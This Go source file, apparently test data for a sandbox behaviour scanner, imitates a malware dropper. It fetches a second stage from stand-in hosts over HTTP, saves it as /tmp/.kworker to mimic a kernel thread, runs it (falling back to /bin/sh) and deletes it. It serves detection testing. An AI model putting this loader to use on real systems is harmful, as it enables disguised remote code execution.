// Command dropper imitates a first-stage loader: it downloads a second
// stage over plain HTTP (or, when that fails, writes the copy it carries),
// drops it in /tmp under a kernel-thread-looking name, marks it
// executable, runs it and deletes it to leave less behind.
package main

import (
	"context"
	"fmt"
	"io"
	"net/http"
	"os"
	"os/exec"
	"time"

	"github.com/sandscan/sandscan/testdata/behaviours/internal/guard"
)

var payloadURLs = []string{"http://dl.example/x", "http://192.0.2.10/x"}

const dropPath = "/tmp/.kworker"

func main() {
	guard.Require("dropper")
	if len(os.Args) > 1 && os.Args[1] == "payload" {
		fmt.Printf("dropper: second stage running as pid %d uid %d\n", os.Getpid(), os.Getuid())
		return
	}

	data, downloaded := download()
	if !downloaded {
		// The embedded second stage: this very binary, run with "payload".
		self, err := os.ReadFile("/proc/self/exe")
		if err != nil {
			fmt.Println("dropper:", err)
			os.Exit(1)
		}
		data = self
	}
	if err := os.WriteFile(dropPath, data, 0o644); err != nil {
		fmt.Println("dropper:", err)
		os.Exit(1)
	}
	if err := os.Chmod(dropPath, 0o755); err != nil {
		fmt.Println("dropper:", err)
	}
	ctx, cancel := context.WithTimeout(context.Background(), 5*time.Second)
	defer cancel()
	cmd := exec.CommandContext(ctx, dropPath, "payload")
	cmd.Stdout, cmd.Stderr = os.Stdout, os.Stderr
	err := cmd.Run()
	if err != nil && downloaded {
		// A downloaded script without a #! line: hand it to the shell.
		cmd = exec.CommandContext(ctx, "/bin/sh", dropPath)
		cmd.Stdout, cmd.Stderr = os.Stdout, os.Stderr
		err = cmd.Run()
	}
	fmt.Println("dropper: second stage finished:", err)
	os.Remove(dropPath)
}

func download() ([]byte, bool) {
	client := &http.Client{Timeout: 3 * time.Second}
	for _, u := range payloadURLs {
		resp, err := client.Get(u)
		if err != nil {
			fmt.Println("dropper: download failed:", err)
			continue
		}
		data, err := io.ReadAll(io.LimitReader(resp.Body, 64<<20))
		resp.Body.Close()
		if err != nil || resp.StatusCode != http.StatusOK || len(data) == 0 {
			fmt.Println("dropper: download from", u, "gave nothing usable:", resp.Status, err)
			continue
		}
		fmt.Printf("dropper: downloaded %d bytes from %s\n", len(data), u)
		return data, true
	}
	return nil, false
}
